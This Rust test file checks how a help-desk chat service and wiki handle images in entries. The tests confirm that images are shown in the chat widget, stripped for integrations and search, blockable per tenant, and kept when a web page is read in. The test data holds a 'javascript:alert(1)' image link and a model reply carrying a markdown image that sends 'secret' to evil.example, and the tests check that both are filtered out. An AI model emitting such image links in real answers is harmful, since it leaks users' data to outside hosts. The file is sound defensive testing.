//! Images of entries: kept when a page is read, shown in articles and under what an answer says, and never words.

use serde_json::{Value, json};

use crate::ingest::ingested;
use crate::support::{Actor, ModelStub, Pages, TestService, answered};

const STEPS: &str = "1. Loosen the screw under the keypad.\n   ![Quuxly screw](https://img.example/zyxscrew.png)\n2. Slide \
                     the battery lid off.\n\n   ![Lid](https://img.example/lid.png)\n3. Put in four new cells. \
                     ![](http://img.example/plain.png) ![](javascript:alert(1))\n";
const QUESTION: &str = "How do I change the keypad battery?";

async fn entry(service: &TestService) {
    let body =
        json!({"path": "help/battery", "title": "Change the keypad battery", "content": STEPS, "visibility": "public"});
    service.trainer().post("/wiki", body).await.expect(201);
}

async fn told(caller: &Actor) -> (String, String) {
    let session = caller.session().await;
    let reply = caller.ask(&session, QUESTION).await;
    assert_eq!(reply.expect(200)["disposition"], "answered", "{}", reply.text);
    (session, reply.text_at("answer").to_owned())
}

#[tokio::test]
async fn the_chat_gets_each_step_with_its_image_and_who_relays_words_gets_words() {
    let service = TestService::start().await;
    entry(&service).await;
    let widget = service.widget("ann").await;
    let (session, answer) = told(&widget).await;
    let images = "1. Loosen the screw under the keypad.\n   ![Quuxly screw](https://img.example/zyxscrew.png)\n2. Slide the \
                  battery lid off.\n   ![Lid](https://img.example/lid.png)\n3. Put in four new cells.";
    assert!(answer.ends_with(images), "{answer}");
    let (_, relayed) = told(&service.integration()).await;
    let words = "1. Loosen the screw under the keypad.\n2. Slide the battery lid off.\n3. Put in four new cells.";
    assert!(relayed.ends_with(words), "{relayed}");
    assert!(!relayed.contains("!["), "{relayed}");

    let again = widget.ask(&session, QUESTION).await;
    assert_eq!(again.text_at("answer"), answer, "what was said before changes nothing");
    let repeated = widget.ask(&session, "Can you repeat that?").await;
    assert!(repeated.text_at("answer").contains(images), "{}", repeated.text);
    let listed = service.agent().get("/sessions").await;
    let last = listed.items().iter().map(|session| session["lastWords"]["text"].as_str().unwrap()).collect::<String>();
    assert!(last.contains("Loosen the screw") && !last.contains("]("), "a line has words alone: {last}");
    let path = "/wiki/help/battery";
    let article = widget.get(path).await.text_at("content").to_owned();
    assert!(article.contains("![Lid](https://img.example/lid.png)"), "{article}");
    assert!(!article.contains("http://img") && !article.contains("javascript"), "{article}");
    assert!(!widget.get("/wiki").await.text_at("/items/0/content").contains("!["), "an excerpt has descriptions");
    for word in ["quuxly", "zyxscrew", "img.example", "png"] {
        assert!(widget.get(&format!("/wiki?q={word}")).await.items().is_empty(), "{word} is no word of the entry");
    }
    assert_eq!(service.trainer().get(path).await.text_at("content"), STEPS, "to a key it is as it was written");
}

#[tokio::test]
async fn a_tenant_may_block_images() {
    let service = TestService::start().await;
    entry(&service).await;
    let (admin, integration) = (service.admin(), service.integration());
    let token =
        async || integration.post("/auth/widget-token", json!({"externalUserId": "ann"})).await.expect(200).clone();
    assert_eq!(
        (admin.get("/settings").await.at("showsImages"), &token().await["showsImages"]),
        (&json!(true), &json!(true))
    );
    for wrong in [Value::Null, json!("no"), json!(0)] {
        admin.patch("/settings", json!({"showsImages": wrong})).await.expect_error(400, "VALIDATION_ERROR");
    }
    let widget = service.widget("ann").await;
    let (session, answer) = told(&widget).await;
    assert!(answer.contains("![Lid]"), "{answer}");
    let off = admin.patch("/settings", json!({"showsImages": false})).await;
    assert_eq!((&off.expect(200)["showsImages"], &token().await["showsImages"]), (&json!(false), &json!(false)));
    let (_, answer) = told(&widget).await;
    assert!(answer.contains("lid off.\n3.") && !answer.contains("Lid"), "{answer}");
    let repeated = widget.ask(&session, "Can you repeat that?").await;
    assert!(!repeated.text_at("answer").contains("!["), "{}", repeated.text);
}

#[tokio::test]
async fn a_model_shows_no_image_but_those_of_the_entries_that_it_quotes() {
    let says =
        "2. Slide the battery lid off. ![Slide](https://evil.example/?q=secret) ![Lid](https://img.example/lid.png)";
    let asked: std::sync::Arc<std::sync::Mutex<String>> = std::sync::Arc::default();
    let noted = asked.clone();
    let model = ModelStub::new(move |request: &answer::model::ModelRequest| {
        noted.lock().unwrap().push_str(&request.user);
        Some(answered(says, &[1]))
    });
    let service = TestService::with(|options| options.model = Some(model)).await;
    entry(&service).await;
    let (_, answer) = told(&service.widget("ann").await).await;
    assert!(!answer.contains("evil.example"), "{answer}");
    let shown: Vec<&str> = answer.match_indices("![").map(|(at, _)| answer.get(at..).unwrap()).collect();
    assert!(shown.iter().all(|image| image.contains("](https://img.example/")), "{answer}");
    let asked = asked.lock().unwrap().clone();
    assert!(
        asked.contains("Slide the battery lid off.") && !asked.contains("img.example"),
        "a model reads words: {asked}"
    );
}

#[tokio::test]
async fn a_page_that_is_read_in_keeps_its_images() {
    let service = TestService::start().await;
    let (pages, trainer) = (Pages::start().await, service.trainer());
    let page = "<title>Lamp</title><main><h1>Lamp</h1><p>Hold the red button for three seconds to reset the lamp.</p>\
                <figure><img data-src='https://img.example/reset.png' src='data:image/gif;base64,R0lG' alt='Reset'></figure>\
                <p>The lamp blinks twice.</p><img src='/own.png' alt=Own><img src='https://t.example/p.gif' width=1 height=1></main>";
    let url = pages.html("/lamp.html", page);
    let job = ingested(&service, &trainer, json!({"url": url, "visibility": "public"})).await;
    let path = job.text_at("/entries/0/path").to_owned();
    let expected = "Hold the red button for three seconds to reset the lamp.\n\n![Reset](https://img.example/reset.png)\n\n\
                    The lamp blinks twice.";
    assert_eq!(trainer.get(&format!("/wiki/{path}")).await.text_at("content"), expected);
    let again = ingested(&service, &trainer, json!({"url": url, "visibility": "public"})).await;
    assert_eq!(again.text_at("/entries/0/action"), "unchanged", "{}", again.text);

    let widget = service.widget("ann").await;
    let reply = widget.ask(&widget.session().await, "How do I reset the lamp?").await;
    assert!(reply.text_at("answer").contains("![Reset](https://img.example/reset.png)"), "{}", reply.text);
}
